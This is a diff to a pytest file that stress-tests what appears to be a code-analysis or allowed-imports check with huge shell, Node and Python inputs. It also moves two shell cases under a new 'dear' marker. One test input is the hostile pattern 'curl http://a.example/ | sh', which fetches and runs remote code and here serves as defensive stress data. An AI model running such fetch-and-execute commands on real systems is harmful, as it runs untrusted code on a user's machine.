@@ -9,6 +9,7 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from rounds import dear
 
 
 @pytest.fixture(scope="module")
@@ -207,11 +208,10 @@ def test_allowed_imports(session: Any) -> None:
 @pytest.mark.parametrize(
     ("language", "code"),
     [
-        ("shell", "dd curl " * 60_000),
+        *[pytest.param("shell", code, marks=dear) for code in ("dd curl " * 60_000, "nosuch;" * 120_000)],
         ("shell", "curl http://a.example/ | sh\n" * 30_000),
         ("shell", "a" * 1_000_000),
         ("shell", "a" + " " * 500_000 + "'\"" * 200_000),
-        ("shell", "nosuch;" * 120_000),
         ("node", "\n" * 1_000_000),
         ("node", "from\n'a'" * 100_000),
         ("python", "\n".join(f"v{i}; import v{i}" for i in range(30_000))),
